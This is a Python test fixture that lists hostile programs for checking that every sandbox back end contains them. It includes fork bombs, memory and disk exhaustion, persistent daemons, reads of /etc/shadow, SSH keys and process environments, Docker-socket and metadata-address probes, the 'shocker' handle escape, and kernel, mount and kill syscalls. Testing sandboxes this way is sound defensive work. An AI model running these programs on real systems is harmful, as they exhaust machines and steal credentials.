"""Programs that attack the sandbox they run in: one table, for every back end.

Each is a Python program that prints what it tried: ``got WHAT`` where it succeeded, ``denied
WHAT`` where it did not. What a limit ends prints nothing more.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field

from sandbox.base import MIB, Ended, Limits
from tests.hostile.host import SECRET_PATTERN

SMALL = Limits(
    wall_seconds=20.0,
    cpu_seconds=10.0,
    memory_bytes=96 * MIB,
    processes=32,
    file_bytes=8 * MIB,
    output_bytes=64 * 1024,
)

PRELUDE = """\
import ctypes, errno, glob, os, re, resource, signal, socket, struct, sys, threading, time
E = os.environ.get
def attempt(what, action):
    try:
        value = action()
    except (OSError, MemoryError, RuntimeError, ValueError) as error:
        print("denied", what, type(error).__name__, getattr(error, "errno", ""), flush=True)
    else:
        print("got", what, repr(value)[:300], flush=True)
def syscall(number, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(ctypes.c_long(number), *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def read(path):
    with open(path, "rb") as file:
        return file.read(100_000)
"""


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack and how it must come to its end.

    ``ends``: how it may end. ``denied``: how many attempts it must have made, all of them in vain
    (None: it makes none, a limit ends it). ``weaker``: also how it may end where no control group
    bounds it. ``needs_groups``: without one nothing bounds it but the wall time (tmpfs counts bytes
    of files, not files).
    """

    program: str
    ends: frozenset[Ended]
    denied: int | None = None
    limits: Limits = SMALL
    weaker: frozenset[Ended] = frozenset()
    needs_groups: bool = False
    files: Mapping[str, bytes] = field(default_factory=dict)


def _limits(**changed: float) -> Limits:
    values = {name: getattr(SMALL, name) for name in Limits.__dataclass_fields__}
    return Limits(**{**values, **changed})


EXITED = frozenset({Ended.EXITED})
WALL = frozenset({Ended.WALL_TIME})
CPU = frozenset({Ended.CPU_TIME})
MEMORY = frozenset({Ended.MEMORY})

SHORT = _limits(wall_seconds=1.0)

ATTACKS: Mapping[str, Attack] = {
    # --- using up the machine -------------------------------------------------------------
    "fork bomb": Attack(
        """
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
        WALL | CPU,
        limits=_limits(wall_seconds=1.5),
    ),
    "fork bomb of a shell": Attack(
        "os.execv('/bin/sh', ['sh', '-c', 'b() { b | b & }; b; while :; do :; done'])",
        WALL | CPU,
        limits=_limits(wall_seconds=1.5),
    ),
    "threads without end": Attack(
        """
def more():
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(99,), daemon=True).start()
attempt("a thousand threads", more)
os._exit(0)
""",
        EXITED,
        denied=1,
    ),
    "memory bomb": Attack(
        "attempt('a gigabyte', lambda: len(b'1' * 2**30))",
        MEMORY,
        weaker=EXITED,
    ),
    "memory bomb of many processes": Attack(
        """
for _ in range(8):
    if os.fork() == 0:
        block = bytearray(b'1') * (40 * 2**20)
        time.sleep(99)
time.sleep(99)
""",
        MEMORY,
        limits=_limits(wall_seconds=4.0),
        needs_groups=True,
    ),
    "memory bomb of files": Attack(
        """
for place in ("/work", "/tmp", "/dev/shm"):
    with open(place + "/f", "wb") as file:
        for _ in range(60):
            file.write(b"1" * 2**20)
""",
        MEMORY,
        limits=_limits(file_bytes=64 * MIB),
        needs_groups=True,
    ),
    "memory bomb of pipes": Attack(
        """
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
def fill():
    while True:
        _, writer = os.pipe()
        os.set_blocking(writer, False)
        try:
            while True:
                os.write(writer, b"1" * 4096)
        except BlockingIOError:
            pass
attempt("pipes without end", fill)
""",
        EXITED | MEMORY,
        limits=_limits(wall_seconds=6.0),
    ),
    "disk fill": Attack(
        """
def fill(place):
    for number in range(20):
        with open(f"{place}/{number}", "wb") as file:
            file.write(b"1" * 2**20)
for place in ("/work", "/tmp", "/dev/shm"):
    attempt(place, lambda: fill(place))
""",
        EXITED,
        denied=3,
    ),
    "one large file": Attack(
        """
signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
with open("/work/f", "wb") as file:
    for _ in range(20):
        file.write(b"1" * 2**20)
""",
        frozenset({Ended.FILE_SIZE, Ended.EXITED}),
    ),
    "a hundred thousand files": Attack(
        """
def touch():
    for number in range(100_000):
        os.close(os.open(f"/work/{number}", os.O_CREAT))
attempt("a hundred thousand files", touch)
""",
        EXITED | MEMORY,
        needs_groups=True,
    ),
    "a tree too deep to walk": Attack(
        """
def dig():
    for _ in range(100_000):
        os.mkdir("d", 0o000 if _ == 2000 else 0o700)
        os.chdir("d")
attempt("depth without end", dig)
""",
        EXITED | MEMORY,
    ),
    "output flood": Attack(
        """
while True:
    os.write(1, b"x" * 65536)
    os.write(2, b"y" * 65536)
""",
        WALL | CPU,
        limits=SHORT,
    ),
    "endless loop": Attack(
        "while True: pass", CPU, limits=_limits(wall_seconds=15.0, cpu_seconds=1)
    ),
    "endless loop that will not hear": Attack(
        """
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True: pass
""",
        CPU,
        limits=_limits(wall_seconds=15.0, cpu_seconds=1),
    ),
    "endless loops side by side": Attack(
        """
for _ in range(4):
    if os.fork() == 0:
        break
while True: pass
""",
        CPU,
        limits=_limits(wall_seconds=15.0, cpu_seconds=1),
        needs_groups=True,
    ),
    "sleeping for ever": Attack("time.sleep(86400)", WALL, limits=SHORT),
    "stopped for ever": Attack("os.kill(os.getpid(), signal.SIGSTOP)", WALL, limits=SHORT),
    # --- outliving the request ------------------------------------------------------------
    "double-forked daemon": Attack(
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(256):
            try: os.close(number)
            except OSError: pass
        for number in range(1, 65):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        while True:
            time.sleep(1)
    os._exit(0)
os.wait()
""",
        EXITED,
        denied=0,
    ),
    "daemons that fork as they are killed": Attack(
        """
for _ in range(10):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
time.sleep(0.2)
os._exit(0)
""",
        EXITED | CPU,
        limits=_limits(wall_seconds=10.0),
    ),
    "a mess left behind": Attack(
        """
for place in ("/work", "/tmp", "/dev/shm"):
    os.makedirs(f"{place}/a/b", exist_ok=True)
    os.symlink("/etc/passwd", f"{place}/a/link")
    os.mkfifo(f"{place}/pipe")
    open(f"{place}/\\n -rf *", "w").close()
    socket.socket(socket.AF_UNIX).bind(f"{place}/socket")
    os.chmod(f"{place}/a", 0o000)
    try: os.chmod(place, 0o500)
    except PermissionError: pass
""",
        EXITED,
        denied=0,
    ),
    # --- reading --------------------------------------------------------------------------
    "the server's environment": Attack(
        """
def environ(pid):
    text = read(f"/proc/{pid}/environ")
    if not re.search(rb"planted-|AWS_|LOGNAME=|USER=root", text):
        raise ValueError("nothing of the host")
    return text
for pid in (E("HOST_PID"), E("SERVER_PID"), "1", str(os.getppid()), "self"):
    attempt("environment of " + pid, lambda: environ(pid))
""",
        EXITED,
        denied=5,
    ),
    "the host's files": Attack(
        """
paths = [E("HOST_FILE"), "/etc/shadow", "/root/.bashrc", "/root/.ssh/id_rsa", "/proc/kcore",
         "/proc/" + E("HOST_PID") + "/root/etc/shadow", "/proc/1/root" + E("HOST_FILE"),
         "/proc/self/root" + E("HOST_FILE"), "/work/../../../.." + E("HOST_FILE"),
         "/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/proc/" + E("SERVER_PID") + "/mem"]
for path in paths:
    attempt(path, lambda: read(path))
os.symlink(E("HOST_FILE"), "/work/link")
attempt("a symlink", lambda: read("/work/link"))
attempt("a hard link", lambda: os.link("/etc/passwd", "/work/hard"))
def by_handle():
    # CVE-free, but what got out of Docker once (shocker): open_by_handle_at with inode 2.
    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2))
    return syscall(304, os.open("/work", os.O_RDONLY), handle, os.O_RDONLY)
attempt("a handle of the host's root", by_handle)
""",
        EXITED,
        denied=17,
    ),
    "a search for secrets": Attack(
        f"""
pattern = re.compile(rb"{SECRET_PATTERN}")
count = 0
for folder, folders, names in os.walk("/"):
    if folder == "/":
        folders[:] = [n for n in folders if n not in ("usr", "lib", "lib64", "bin", "sbin", "opt")]
    if folder == "/proc":
        folders[:] = [n for n in folders if n.isdigit()]
    folders[:] = [n for n in folders if n not in ("task", "cwd", "root", "map_files")]
    for name in names:
        path = os.path.join(folder, name)
        try:
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            count += 1
            if pattern.search(os.read(descriptor, 200_000)):
                print("got", path)
        except OSError:
            pass
        finally:
            os.close(descriptor)
print("denied" if count > 20 else "got too little to search", count, "files searched")
""",
        EXITED,
        denied=1,
    ),
    "the host's sockets": Attack(
        """
def connect(family, address):
    with socket.socket(family) as out:
        out.settimeout(2)
        out.connect(address)
        return out.recv(100)
for path in (E("HOST_SOCKET"), "\\0" + E("HOST_ABSTRACT"), "/var/run/docker.sock",
             "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"):
    attempt(repr(path), lambda: connect(socket.AF_UNIX, path))
for address in ("127.0.0.1", E("HOST_ADDRESS"), "172.17.0.1"):
    attempt(address, lambda: connect(socket.AF_INET, (address, int(E("HOST_TCP")))))
""",
        EXITED,
        denied=8,
    ),
    "the host's descriptors": Attack(
        """
import stat
def through(number):
    at = f"/proc/self/fd/{number}"
    if stat.S_ISDIR(os.stat(at).st_mode):
        return os.listdir(at)
    if stat.S_ISSOCK(os.fstat(number).st_mode):
        return os.readlink(at)
    raise ValueError("a pipe or a file of our own")
for number in range(64):
    try: os.fstat(number)
    except OSError: continue
    attempt(number, lambda: through(number))
""",
        EXITED,
        denied=3,
    ),
    # --- changing -------------------------------------------------------------------------
    "writing outside": Attack(
        """
def write(path):
    with open(path, "w") as file:
        file.write("attacked")
for path in (E("HOST_TARGET"), "/proc/1/root" + E("HOST_TARGET"), "/etc/passwd", "/usr/bin/env",
             "/new", "/etc/new", "/usr/new", "/proc/sys/kernel/core_pattern",
             "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/sys/new", "/dev/new",
             "/sys/fs/cgroup/cgroup.procs", "/proc/self/uid_map"):
    attempt(path, lambda: write(path))
os.symlink(E("HOST_TARGET"), "/work/link")
attempt("through a symlink", lambda: write("/work/link"))
attempt("chmod", lambda: os.chmod("/usr/bin/env", 0o4755))
attempt("a device", lambda: os.mknod("/work/disk", 0o60666, os.makedev(254, 0)))
attempt("chroot", lambda: os.chroot("/work"))
attempt("mount", lambda: syscall(165, b"none", b"/work", b"tmpfs", 0, None))
attempt("a namespace of users", lambda: syscall(272, 0x10000000))
attempt("a namespace of mounts", lambda: syscall(272, 0x00020000))
attempt("root", lambda: os.setuid(0))
attempt("the host's namespaces", lambda: syscall(308, os.open("/proc/1/ns/user", 0), 0))
attempt("a kernel module", lambda: syscall(175, b"x", 1, b""))
attempt("a new kernel", lambda: syscall(169, 0xfee1dead, 672274793, 0x1234567, None))
attempt("the clock", lambda: time.clock_settime(time.CLOCK_REALTIME, 0))
attempt("the name", lambda: socket.sethostname("attacked"))
""",
        EXITED,
        denied=27,
    ),
    "more than its limits": Attack(
        """
def raised(kind):
    soft, hard = resource.getrlimit(kind)
    if hard == resource.RLIM_INFINITY:
        return "never limited"
    resource.setrlimit(kind, (hard + 1, hard + 1))
for name in ("RLIMIT_CORE", "RLIMIT_CPU", "RLIMIT_FSIZE"):
    attempt(name, lambda: raised(getattr(resource, name)))
attempt("priority", lambda: os.nice(-5))
attempt("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))
""",
        EXITED,
        denied=5,
    ),
    # --- the network and other processes --------------------------------------------------
    "the network": Attack(
        """
def out(family, kind, address, protocol=0):
    with socket.socket(family, kind, protocol) as socket_:
        socket_.settimeout(2)
        if kind == socket.SOCK_STREAM:
            socket_.connect(address)
        else:
            socket_.sendto(b"hello", address)
        return address
for address in ("192.0.2.1", "169.254.169.254", "8.8.8.8", E("HOST_ADDRESS")):
    attempt("tcp " + address, lambda: out(socket.AF_INET, socket.SOCK_STREAM, (address, 80)))
    attempt("udp " + address, lambda: out(
        socket.AF_INET, socket.SOCK_DGRAM, (address, int(E("HOST_UDP")))))
attempt("tcp6", lambda: out(socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 80)))
attempt("raw", lambda: out(socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0), socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("names", lambda: socket.getaddrinfo("registry.terraform.io", 443))
attempt("the machine's supervisor", lambda: out(socket.AF_VSOCK, socket.SOCK_STREAM, (2, 1024)))
attempt("interfaces", lambda: [n for _, n in socket.if_nameindex() if n != "lo"][0:1] or
        (_ for _ in ()).throw(OSError("only the loopback")))
""",
        EXITED,
        denied=14,
    ),
    "signals to others": Attack(
        """
for pid in (E("HOST_PID"), E("SERVER_PID")):
    attempt("kill " + pid, lambda: os.kill(int(pid), signal.SIGKILL))
    attempt("group " + pid, lambda: os.killpg(int(pid), signal.SIGKILL))
    attempt("trace " + pid, lambda: syscall(101, 16, int(pid), 0, 0))
    attempt("memory of " + pid, lambda: open(f"/proc/{pid}/mem", "wb"))
if os.fork() == 0:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.kill(-1, signal.SIGTERM)
    os._exit(0)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
time.sleep(0.2)
""",
        EXITED,
        denied=8,
    ),
    "killing whoever is near": Attack(
        """
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    for pid in (1, os.getppid(), *range(2, 64)):
        if pid not in (0, os.getpid()):
            try: os.kill(pid, number)
            except OSError: pass
""",
        EXITED,
        denied=0,
    ),
}
"""By name. Every back end must hold against every one of them."""
